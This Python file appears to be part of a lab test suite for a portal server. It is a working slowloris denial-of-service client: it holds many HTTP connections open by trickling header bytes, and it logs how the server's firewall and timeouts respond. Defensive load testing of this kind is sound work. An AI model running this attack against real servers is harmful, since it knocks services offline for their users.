"""A slowloris client, run inside a lab client's namespace by test_hostile_portalsec.py.

``python slowloris_agent.py HOST PORT N``: tries to hold N connections to
HOST:PORT, each sending one more byte of a request header every half second
and never finishing it; a connection the server closes is opened again. Every
half second it prints one JSON line: ``open`` (held now), ``max_open``,
``refused`` (connects that failed: reset by the firewall or timed out),
``early`` (closed by the server within 1 s of the connect: refused by the
daemon at accept) and ``cut`` (closed later: the header timeout). It stops at
EOF on stdin.
"""

from __future__ import annotations

import json
import select
import socket
import sys
import time

HEADER = b"GET / HTTP/1.1\r\nHost: portal.desa\r\nX-Slow: "


def main() -> int:
    host, port, want = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
    held: dict[socket.socket, float] = {}
    stats = {"open": 0, "max_open": 0, "refused": 0, "early": 0, "cut": 0}
    while True:
        ready, _, _ = select.select([sys.stdin], [], [], 0)
        if ready and not sys.stdin.readline():
            break
        while len(held) < want:
            s = socket.socket()
            s.settimeout(1.0)
            try:
                s.connect((host, port))
                s.sendall(HEADER)
            except OSError:
                stats["refused"] += 1
                s.close()
                break  # try the others at the next round
            s.setblocking(False)
            held[s] = time.monotonic()
        for s, since in list(held.items()):
            gone = False
            try:
                if s.recv(4096) == b"":
                    gone = True
            except BlockingIOError:
                pass
            except OSError:
                gone = True
            if not gone:
                try:
                    s.send(b"a")
                except BlockingIOError:
                    pass
                except OSError:
                    gone = True
            if gone:
                stats["early" if time.monotonic() - since < 1.0 else "cut"] += 1
                del held[s]
                s.close()
        stats["open"] = len(held)
        stats["max_open"] = max(stats["max_open"], len(held))
        print(json.dumps(stats), flush=True)
        time.sleep(0.5)  # the attack's pace (one byte per connection per half second)
    return 0


if __name__ == "__main__":
    sys.exit(main())
